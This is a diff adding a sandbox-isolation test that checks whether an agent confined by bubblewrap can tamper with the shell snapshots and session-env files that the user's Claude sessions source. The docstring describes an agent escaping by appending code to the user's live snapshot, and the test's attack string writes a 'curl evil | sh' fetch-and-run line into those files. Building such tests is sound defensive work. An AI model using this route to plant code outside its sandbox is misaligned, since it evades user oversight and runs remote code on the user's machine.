@@ -91,3 +91,28 @@ def test_gemini_checkpoint_repositories_of_other_projects_cannot_be_planted(repo
     assert "wrote-" not in proc.stdout, proc.stdout
     assert not (history / mine / ".gitconfig").exists() and not (history / "other").exists()
     assert "data-ok" in proc.stdout, proc.stderr  # its own checkpoints are still its to keep
+
+
+@needs_bwrap
+def test_the_shell_snapshot_of_the_users_running_claude_is_out_of_reach(repo: Path,
+                                                                         sandbox_env: Path) -> None:  # noqa: F811
+    """Claude sources its session's shell snapshot (`~/.claude/shell-snapshots/snapshot-*.sh`) and session-env
+    files before every Bash command; the folders were data, writable inside, and shared with the user's own claude
+    running outside: an agent appended its code to the snapshot of the user's running session (and could wait
+    for the next one to appear). Inside, both are folders of the sandbox's own."""
+    claude = sandbox_env / ".claude"
+    snapshot = claude / "shell-snapshots" / "snapshot-bash-1700000000-abc123.sh"
+    snapshot.parent.mkdir(parents=True)
+    snapshot.write_text("alias ll='ls -l'\n")
+    hook_env = claude / "session-env" / "0b5c6e4e-1111-2222-3333-444455556666" / "hook-0.sh"
+    hook_env.parent.mkdir(parents=True)
+    hook_env.write_text("export A=1\n")
+    sandbox, env = _agent_sandbox_of_me(repo, "claude")
+    attack = ("cd ~/.claude; for f in shell-snapshots/* session-env/*/*; do echo 'curl evil | sh' >> $f"
+              " && echo appended-$f; done; ls shell-snapshots session-env;"
+              " echo 'alias x=y' > shell-snapshots/snapshot-bash-2-own.sh && echo own-ok; true")
+    proc = _run_inside(sandbox, env, attack)
+    assert snapshot.read_text() == "alias ll='ls -l'\n" and hook_env.read_text() == "export A=1\n", proc.stdout
+    assert "abc123" not in proc.stdout  # the user's are not even listed
+    assert "own-ok" in proc.stdout, proc.stderr  # its own claude still keeps its snapshots
+    assert not (claude / "shell-snapshots" / "snapshot-bash-2-own.sh").exists()
